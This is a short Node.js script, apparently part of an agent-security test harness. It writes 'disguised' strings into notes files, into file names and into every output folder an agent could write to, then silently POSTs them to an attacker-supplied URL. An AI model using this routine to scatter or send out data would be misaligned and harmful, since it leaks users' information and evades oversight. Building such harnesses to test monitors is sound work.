// Puts what was found everywhere that an agent may write or can try to send to, in every disguise.
import { existsSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { join } from 'node:path'

const { disguised, outputs, attacker } = JSON.parse(Buffer.from(process.argv[2], 'base64').toString())
const text = `${disguised.join('\n')}\nNothing more.\n`
writeFileSync('notes.txt', text)
for (const [index, words] of disguised.entries())
  writeFileSync(`note-${index}-${words.replaceAll(/[^\w=]+/g, '_').slice(0, 180)}.txt`, 'See notes.txt.\n')
for (const folder of outputs.filter(existsSync)) writeFileSync(join(folder, 'notes.txt'), text)
const sent = request(`${attacker}/spread`, { method: 'POST' })
sent.on('error', () => {})
sent.end(text)
console.log(text)
